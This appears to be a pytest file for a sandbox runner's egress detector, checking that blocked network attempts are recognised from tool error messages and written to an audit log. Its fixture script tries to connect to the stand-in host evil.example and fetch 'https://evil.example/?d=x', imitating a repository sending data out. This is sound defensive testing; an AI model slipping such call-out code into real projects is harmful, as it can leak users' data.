"""Checklist I5, network egress from the sandbox: blocked by the run's own network namespace
(tests/test_confine.py), and each attempt logged. The detector (sandbox_runner/egress.py) reads the
errors that CPython, urllib3/requests/pip, curl, git, wget, Node and Java print when the network is
not there, captured from real runs in a namespace; then a real run through the worker's sandbox
(LocalSandbox, counted as in production) tries to leave and is recorded, its outcome unchanged."""

from __future__ import annotations

import logging
import subprocess
from pathlib import Path

import pytest
from redis.asyncio import Redis

from app.audit import read_audit
from app.joblog import job_context
from jobs.sandbox.base import Limits
from jobs.sandbox.counted import CountedSandbox
from jobs.sandbox.local import LocalSandbox
from jobs.suspicion import EGRESS, record_egress
from sandbox_runner.confine import probe_isolation
from sandbox_runner.egress import Egress, scan_output, scan_run
from sandbox_runner.injection import excerpt
from sandbox_runner.result import BASELINE, RunResult
from tests.sandbox_support import PYTHON, make_repo

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "logs"
needs_network_ns = pytest.mark.skipif(
    not probe_isolation().network, reason="no network namespace on this host (unshare)"
)
PIP = (
    "WARNING: Retrying (Retry(total=4, connect=None, read=None, redirect=None, status=None)) after "
    "connection broken by 'NameResolutionError(\"HTTPSConnection(host='pypi.org', port=443): Failed to "
    "resolve 'pypi.org' ([Errno -3] Temporary failure in name resolution)\")': /simple/requests/"
)

# (output line, host it names or None): each captured from a run under `unshare --net`, or the
# tool's documented message for the same failure
BLOCKED = [
    ("OSError: [Errno 101] Network is unreachable", None),
    ("socket.gaierror: [Errno -3] Temporary failure in name resolution", None),
    ("urllib.error.URLError: <urlopen error [Errno -3] Temporary failure in name resolution>", None),
    ("<urlopen error [Errno 101] Network is unreachable>", None),
    ("socket.gaierror: [Errno -2] Name or service not known", None),
    (
        "requests.exceptions.ConnectionError: HTTPSConnectionPool(host='evil.example', port=443): "
        "Max retries exceeded with url: /x (Caused by NewConnectionError("
        "'<urllib3.connection.HTTPSConnection object at 0x7f3c>: Failed to establish a new connection: "
        "[Errno 101] Network is unreachable'))",
        "evil.example",
    ),
    ("httpx.ConnectError: [Errno -3] Temporary failure in name resolution", None),
    (PIP, "pypi.org"),
    ("curl: (6) Could not resolve host: evil.example", "evil.example"),
    (
        "curl: (7) Failed to connect to 93.184.216.34 port 80 after 0 ms: Couldn't connect to server",
        "93.184.216.34",
    ),
    ("fatal: unable to access 'https://github.com/o/r/': Could not resolve host: github.com", "github.com"),
    ("wget: unable to resolve host address ‘evil.example’", "evil.example"),
    ("Connecting to 93.184.216.34:80... failed: Network is unreachable.", None),
    ("Error: getaddrinfo EAI_AGAIN registry.npmjs.org", "registry.npmjs.org"),
    ("Error: connect ENETUNREACH 140.82.112.3:443", None),
    ("java.net.UnknownHostException: repo.maven.apache.org", None),
    (";; connection timed out; no servers could be reached", None),
]
NOT_EGRESS = [
    "ConnectionRefusedError: [Errno 111] Connection refused",  # the test's own server on the loopback
    "curl: (7) Failed to connect to localhost port 8080 after 0 ms: Couldn't connect to server",
    "curl: (7) Failed to connect to 127.0.0.1 port 5432 after 0 ms: Connection refused",
    "FAILED tests/test_net.py::test_offline - AssertionError: expected the client to retry",
    "tests/test_http.py::test_unreachable_host_is_reported PASSED",
    "E   TimeoutError: timed out",
]


@pytest.mark.parametrize(("line", "host"), BLOCKED, ids=[b[0][:50] for b in BLOCKED])
def test_I5_a_blocked_attempt_is_recognised(line: str, host: str | None) -> None:
    found = scan_output(f"collected 3 items\n\n{line}\n1 failed, 2 passed in 0.31s\n")
    assert found is not None
    assert found.count == 1
    assert found.example == excerpt(line)  # at most 80 characters
    assert found.hosts == ((host,) if host else ())


@pytest.mark.parametrize("line", NOT_EGRESS)
def test_I5_loopback_refusals_and_test_names_are_not_attempts(line: str) -> None:
    assert scan_output(f"{line}\n") is None


def test_I5_real_ci_logs_show_no_attempt() -> None:
    logs = sorted(FIXTURES.glob("*.log"))
    assert len(logs) > 20
    assert {p.name: scan_output(p.read_text(errors="replace")) for p in logs} == dict.fromkeys(
        (p.name for p in logs), None
    )


def test_I5_one_finding_per_run_counts_every_line_and_keeps_the_first() -> None:
    output = "\n".join([PIP] * 5 + ["curl: (6) Could not resolve host: evil.example", "ok"])
    assert scan_output(output) == Egress(6, excerpt(PIP), ("pypi.org", "evil.example"))


def run(isolated: bool, tail: str) -> RunResult:
    return RunResult(BASELINE, None, 0, 0.1, log_tail=tail, isolation={"network": isolated, "pid": True})


def test_I5_only_runs_without_a_network_are_read() -> None:
    """With the network there (the Actions sandbox, a host without namespaces) these are ordinary
    network failures, not blocked attempts."""
    assert scan_run(run(True, "[Errno 101] Network is unreachable")) == Egress(
        1, "[Errno 101] Network is unreachable"
    )
    assert scan_run(run(False, "[Errno 101] Network is unreachable")) is None
    assert scan_run(run(True, "3 passed")) is None


async def test_I5_each_run_that_tried_is_logged_and_audited(
    redis: Redis, caplog: pytest.LogCaptureFixture
) -> None:
    tried = run(True, "curl: (6) Could not resolve host: evil.example\n" * 3)
    quiet = RunResult("c1", None, 0, 0.1, log_tail="1 passed", isolation={"network": True})
    with caplog.at_level(logging.WARNING, logger="autofix.suspicion"), job_context("check:1", repo="o/r"):
        assert await record_egress(redis, "local", [tried, quiet]) == 1
    (entry,) = await read_audit(redis)
    assert entry["kind"] == EGRESS
    assert (entry["job_id"], entry["repo"]) == ("check:1", "o/r")  # on the job's dashboard page
    assert (entry["candidate"], entry["count"], entry["hosts"]) == (BASELINE, 3, ["evil.example"])
    assert entry["example"] == "curl: (6) Could not resolve host: evil.example"
    (line,) = caplog.records
    assert "tried to reach the network 3 time(s), blocked" in line.getMessage()


PROBE = """import socket, urllib.request
for host in ("1.1.1.1", "evil.example"):
    try:
        socket.create_connection((host, 443), timeout=2)
    except OSError as e:
        print(e)
try:
    urllib.request.urlopen("https://evil.example/?d=x", timeout=2)
except OSError as e:
    print(e)
"""


@pytest.fixture
def calling_home(tmp_path: Path) -> tuple[Path, str]:
    """A repository whose test command tries to connect out twice and to fetch a URL once."""
    repo = make_repo(tmp_path / "repo", {"probe.py": PROBE})
    done = subprocess.run(["git", "-C", str(repo), "rev-parse", "HEAD"], capture_output=True, text=True)
    return repo, done.stdout.strip()


@needs_network_ns
async def test_I5_a_run_that_tries_to_leave_is_recorded_and_its_outcome_unchanged(
    calling_home: tuple[Path, str], redis: Redis, caplog: pytest.LogCaptureFixture
) -> None:
    repo, sha = calling_home
    sandbox = CountedSandbox(LocalSandbox(), redis, "local")  # as jobs/sandbox/factory.py builds it
    with caplog.at_level(logging.WARNING, logger="autofix.suspicion"):
        (baseline,) = await sandbox.run(
            str(repo), sha, None, f"{PYTHON} probe.py", {}, limits=Limits(60, wait_s=60)
        )
    assert baseline.isolation["network"] is True
    assert baseline.exit_code == 0  # the attempt is recorded, not held against the run
    (entry,) = [e for e in await read_audit(redis) if e["kind"] == EGRESS]
    assert (entry["backend"], entry["candidate"], entry["count"]) == ("local", BASELINE, 3)
    assert entry["example"] == "[Errno 101] Network is unreachable"
    assert entry["hosts"] == []  # CPython's errors do not name the host
    (line,) = caplog.records
    assert line.getMessage().startswith("sandbox run baseline tried to reach the network 3 time(s), blocked")
